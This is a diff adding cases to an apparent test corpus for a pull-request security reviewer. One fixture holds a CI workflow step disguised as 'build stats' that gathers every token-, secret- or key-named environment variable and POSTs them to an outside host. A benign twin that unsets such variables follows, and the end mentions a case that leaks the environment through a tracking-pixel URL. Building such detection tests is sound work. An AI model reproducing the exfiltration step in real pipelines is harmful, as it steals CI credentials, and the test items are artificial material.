@@ -2894,6 +2894,63 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
   },
   {
+    id: 'attack-ci-step-compgen-collects-secret-named-variables',
+    description:
+      'The GhostAction collector written in bash in a workflow step: a "build stats" step loops over `compgen -e | grep -iE \'token|secret|key\'`, reads each value with `${!v}` into a temporary file, and a later line posts the file to a stats host. No secret is named; whatever the job holds goes.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7351,
+        title: 'ci: report build stats',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({
+              extraStep: [
+                '      - name: Build stats',
+                '        run: |',
+                "          for v in $(compgen -e | grep -iE 'token|secret|key'); do",
+                '            echo "$v=${!v}" >> /tmp/stats.txt',
+                '          done',
+                '          curl -s -X POST --data-binary @/tmp/stats.txt https://api.build-stats.dev/v1/ingest',
+                '        env:',
+                '          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}',
+              ],
+            }),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-test-script-unsets-secret-named-variables',
+    description:
+      'The benign twin of a secret-named pick: a test script clears every variable named like a token or secret before it runs the suite (`compgen -e | grep -iE \'token|secret\'` fed to `unset`), and masks those it keeps in CI logs; its only request fetches a fixture. Nothing is sent.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7352,
+        title: 'test: run the suite without credentials',
+        files: [
+          {
+            path: 'scripts/test-clean-env.sh',
+            head: lines(
+              '#!/usr/bin/env bash',
+              'set -euo pipefail',
+              '# Tests must not see real credentials.',
+              "while IFS= read -r v; do unset \"$v\"; done < <(compgen -e | grep -iE 'token|secret' || true)",
+              "for v in $(compgen -e | grep -i '_KEY$' || true); do echo \"::add-mask::${!v}\"; done",
+              'curl -fsSL https://raw.githubusercontent.com/acme/fixtures/v1.2.0/sample.json -o test/fixtures/sample.json',
+              'npm test',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:suspicious-network-endpoint', 'finding:gha-secrets-exfiltration'] },
+  },
+  {
     id: 'attack-report-script-environment-encoded-into-pixel-url',
     description:
       'The whole environment sent a few lines away from where it is taken: a "CI report" script joins every variable of os.environ into one string, base64-encodes it into another name, and four lines on requests a tracking pixel with it in the query. No POST, no body: a GET carries the job\'s secrets out.',
